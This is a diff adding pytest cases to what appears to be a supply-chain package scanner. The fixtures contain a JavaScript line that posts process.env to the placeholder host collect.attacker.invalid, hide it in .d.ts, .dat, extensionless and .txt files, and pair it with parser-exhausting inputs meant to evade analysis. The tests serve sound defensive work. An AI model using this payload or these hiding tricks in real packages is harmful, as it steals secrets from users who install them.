@@ -234,3 +234,98 @@ def test_a_wheel_data_purelib_pth_runs_at_interpreter_start(
     report = json.loads(capsys.readouterr().out)
     assert code == 1 and report["severity"] == "critical", report["findings"]
     assert any(f["path"] == "zz_demo.pth" for f in report["findings"])
+
+
+RUNTIME_PAYLOAD = (
+    "const https = require('https');\n"
+    "https.request({host: 'collect.attacker.invalid', method: 'POST'})"
+    ".end(JSON.stringify(process.env));\n"
+)
+
+
+@pytest.mark.usefixtures("guard")
+@pytest.mark.parametrize(
+    ("main", "files"),
+    [
+        pytest.param(
+            "index.js",
+            {"index.js": "require('./lib/util.d.ts');\n", "lib/util.d.ts": RUNTIME_PAYLOAD},
+            id="require-d.ts",
+        ),
+        pytest.param(
+            "index.js",
+            {"index.js": "require('./lib/data.dat');\n", "lib/data.dat": RUNTIME_PAYLOAD},
+            id="require-dat",
+        ),
+        pytest.param(
+            "index.js",
+            {"index.js": "require('./lib/helper');\n", "lib/helper": RUNTIME_PAYLOAD},
+            id="require-extensionless",
+        ),
+        pytest.param("lib/server.txt", {"lib/server.txt": RUNTIME_PAYLOAD}, id="main-txt"),
+    ],
+)
+def test_code_node_runs_whatever_its_name_is_analysed_as_code(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], main: str, files: dict[str, str]
+) -> None:
+    """`require` runs any file as CommonJS (except .json and .node): a payload in a `.d.ts`,
+    `.dat` or extensionless file, or a `main` ending in `.txt`, is code (was NONE)."""
+    manifest = json.dumps({"name": "srv", "version": "1.0.1", "main": main})
+    code, report = _diff(tmp_path, capsys, A.npm_tarball({"package.json": manifest, **files}))
+    assert code == 1 and report["severity"] in ("high", "critical"), report["findings"]
+    payload = next(p for p, text in files.items() if text == RUNTIME_PAYLOAD)
+    strong = [f for f in report["findings"] if f["severity"] in ("high", "critical")]
+    assert any(f["path"] == payload for f in strong), strong
+
+
+@pytest.mark.usefixtures("guard")
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        pytest.param("a" + "\n.b" * 3000 + "()\n", id="member-chain-3000"),
+        pytest.param("(" * 100_000 + "\n", id="open-parens-100000"),
+        pytest.param("const u = 'https://" + "a" * 120_000 + "..invalid';\n", id="url-120000"),
+        pytest.param("const h = '" + "a." * 60_000 + "invalid';\n", id="host-120000"),
+    ],
+)
+def test_a_parser_or_regex_attack_does_not_hide_the_payload_beside_it(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], hostile: str
+) -> None:
+    """The attack file sorts before the payload; the payload is still judged (was NONE after
+    a RecursionError, or minutes of regex or query work)."""
+    files = {
+        "package.json": '{"name":"srv","version":"1.0.1","main":"index.js"}',
+        "index.js": "require('./lib/a.js');\nrequire('./lib/z.js');\n",
+        "lib/a.js": "require('child_process');\n" + hostile,
+        "lib/z.js": RUNTIME_PAYLOAD,
+    }
+    code, report = _diff(tmp_path, capsys, A.npm_tarball(files))
+    assert code == 1, report["findings"]
+    strong = [f for f in report["findings"] if f["severity"] in ("high", "critical")]
+    assert any(f["path"] == "lib/z.js" for f in strong), report["findings"]
+
+
+@pytest.mark.usefixtures("guard")
+def test_a_sourceless_pyc_the_package_imports_is_reported(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """`from ._speedups import run` imports `_speedups.pyc` when its magic number matches."""
+    import importlib.util
+
+    dist = "demo-1.0.dist-info"
+    base = {
+        f"{dist}/METADATA": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
+        f"{dist}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+        "demo/__init__.py": "X = 1\n",
+    }
+    pyc = importlib.util.MAGIC_NUMBER + b"\0" * 12 + b"\xe3" + b"\0" * 64
+    old_path, new_path = tmp_path / "demo-1.0-py3-none-any.whl", tmp_path / "new.whl"
+    old_path.write_bytes(A.wheel(base))
+    new = {**base, "demo/__init__.py": "from ._speedups import run\n", "demo/_speedups.pyc": pyc}
+    new_path.write_bytes(A.wheel(new))
+    code = main(["diff", "--old", str(old_path), "--new", str(new_path), "--format", "json"])
+    report = json.loads(capsys.readouterr().out)
+    assert code == 1 and report["severity"] in ("high", "critical"), report["findings"]
+    assert any(
+        f["rule"] == "code.opaque" and f["path"] == "demo/_speedups.pyc" for f in report["findings"]
+    )
